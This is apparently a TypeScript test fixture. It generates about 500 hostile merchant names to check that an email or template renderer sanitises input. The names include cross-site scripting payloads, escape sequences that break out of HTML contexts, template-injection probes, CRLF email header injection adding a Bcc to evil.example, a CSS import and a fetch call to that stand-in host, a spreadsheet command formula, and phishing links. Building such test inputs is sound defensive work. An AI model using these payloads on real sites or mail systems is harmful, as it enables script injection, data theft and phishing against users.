const TAGS = [
  'script',
  'img src=x',
  'svg',
  'iframe',
  'body',
  'style',
  'a',
  'table',
  'math',
  'details open',
];
const EVENTS = ['onerror', 'onload', 'onmouseover', 'ontoggle', 'onfocus autofocus'];
const CALLS = ['alert(1)', 'fetch(`//evil.example`)', '&#97;lert(1)', 'top["al"+"ert"](1)'];
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</td></tr></table>',
  '</title></style>',
  '--><!--',
  ']]>',
  '&quot;>',
];

/** Builds names that end the surrounding HTML element or attribute and start an active element. */
const elements = (): string[] =>
  TAGS.flatMap((tag, nth) =>
    EVENTS.flatMap((event, place) =>
      WAYS_OUT.map((out, way) => {
        const call = CALLS[(nth + place + way) % CALLS.length] ?? '';
        return `${out}<${tag} ${event}=${call}>`;
      }),
    ),
  );

const attributes = (): string[] =>
  EVENTS.flatMap((event) =>
    ['"', "'", '`', ''].flatMap((quote) =>
      CALLS.map((call) => `Acme${quote} ${event}=${quote}${call}`),
    ),
  );

const ODD: readonly string[] = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
  '＜script＞alert(1)＜/script＞',
  '{{unsubscribeUrl}}',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '-unsubscribeUrl-',
  '\u202Eevil\r\nBcc: everybody@evil.example',
  'Acme\r\n\r\n<html><body>another mail',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '@import "//evil.example/a.css"; } * { display: none',
  '\u0000<\u0000script\u0000>',
  'https://evil.example/pay-here',
  "=cmd|' /C calc'!A0",
  '\uD800 half a letter',
  '𝕊𝕔𝕣𝕚𝕡𝕥 <ScRiPt >alert(1)</sCrIpT >',
  '<a href="https://evil.example">Open this snapshot</a>',
];

/** About 500 merchant names that try to inject markup. */
export const HOSTILE_NAMES: readonly string[] = [...elements(), ...attributes(), ...ODD];
